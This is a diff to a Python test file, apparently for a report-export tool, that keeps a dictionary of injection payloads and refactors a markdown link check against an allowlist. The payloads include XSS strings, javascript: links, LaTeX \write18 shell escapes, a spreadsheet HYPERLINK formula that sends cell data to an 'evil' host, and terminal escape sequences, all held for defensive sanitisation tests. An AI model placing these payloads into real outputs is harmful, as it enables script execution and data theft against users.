@@ -26,7 +26,7 @@ from autotune.study.progress import PlainListener
 CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 EVIL = {
     "html": "<script>alert(1)<\\script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>",
-    "markdown": "x](javascript:alert(1)) ![t](http:evil.png) [a][b]\n# owned\n\n[b]: javascript:alert(1)\n```\nowned\n```",
+    "markdown": "x](javascript:alert(1)) ![t](http:evil.png) [a][b]\n# owned\n\n[b]: javascript:x\n```\nowned\n```",
     "latex": "\\input{secret}\\write18{rm} [x] $a$ % & # _ ^ ~ { \\end{tabular}",
     "csv": '=HYPERLINK("http:evil?"&A1)',
     "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\r\x08",
@@ -75,10 +75,9 @@ def check_csv(text: str) -> None:
 
 def check_markdown(text: str) -> None:
     outside = re.sub(r"(?ms)^(`{3,})\w*\n.*?^\1$", "", text)
-    links = [link for link in re.findall(r"!?\[[^\]]*\]\(([^)]*)\)", outside)]
-    assert all(re.fullmatch(r"plots/[\w.-]+|[\w.-]+\.png|https://huggingface.co/[\w./-]+", link) for link in links), (
-        links
-    )
+    allowed = r"plots/[\w.-]+|[\w.-]+\.png|https://huggingface.co/[\w./-]+"
+    for link in re.findall(r"!?\[[^\]]*\]\(([^)]*)\)", outside):
+        assert re.fullmatch(allowed, link), link
     assert not re.search(r"<[a-z/!]", outside)
     assert not re.search(r"(?m)^(# owned|\[b\]:|owned)", outside)
 
